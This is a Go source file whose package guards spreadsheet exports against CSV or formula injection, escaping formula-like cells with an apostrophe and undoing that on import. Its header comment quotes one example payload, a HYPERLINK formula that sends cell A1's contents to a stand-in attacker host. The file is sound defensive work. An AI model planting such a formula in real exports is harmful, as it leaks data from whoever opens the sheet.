// Package cell owns the text planwatch writes into spreadsheet cells of
// its exports (task lists, reports' tables, the audit log), so that no
// export can carry a live formula: a note a unit typed as
// =HYPERLINK("http://evil.example/?"&A1, "详情") must open as that text
// in Excel, WPS or LibreOffice, never run (CSV or formula injection).
//
// The rule is OWASP's: a text cell that begins with = + - @, a tab or a
// carriage return is a formula to a spreadsheet program reading CSV.
//
//   - CSV has no types, so such a cell is written with a leading
//     apostrophe (CSV below). It shows, but the value stays readable and
//     visibly altered, and it is what Excel itself prints for a text cell
//     that looks like a formula; our own import takes it off again
//     (FromCSV), so an exported sheet filled in and sent back reads as
//     written. Doubling quotes and wrapping in them, OWASP's other half, is
//     encoding/csv's job.
//   - XLSX types its cells: text is written as a string cell (excelize's
//     SetCellStr: t="s"), never as a formula, and in the text number
//     format (@), so that a unit editing the cell keeps it text. No
//     apostrophe goes into an .xlsx: it would be part of the value.
//
// Numbers stay numbers: -5 and +3.5 are left alone in both.
package cell

import (
	"strconv"
	"strings"
)

// Formulaic reports whether a spreadsheet program reading s from a CSV
// would take it for a formula: it begins with = + - @, a tab or a
// carriage return, and is not simply a number (-5, +3.5).
func Formulaic(s string) bool {
	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return false
	}
	_, err := strconv.ParseFloat(s, 64)
	return err != nil
}

// CSV is s as a CSV cell that cannot run: a formula-like text gets a
// leading apostrophe. So does a text that already has apostrophes before
// a formula-like one, so that FromCSV gives back exactly s.
func CSV(s string) string {
	if guarded(s) {
		return "'" + s
	}
	return s
}

// guarded: s is formula-like after any leading apostrophes.
func guarded(s string) bool { return Formulaic(strings.TrimLeft(s, "'")) }

// CSVRow applies CSV to each cell of a record, in place, and returns it.
func CSVRow(rec []string) []string {
	for i, v := range rec {
		rec[i] = CSV(v)
	}
	return rec
}

// FromCSV undoes CSV: the apostrophe before a formula-like text is taken
// off. Anything else is returned as it is.
func FromCSV(s string) string {
	if strings.HasPrefix(s, "'") && guarded(s[1:]) {
		return s[1:]
	}
	return s
}
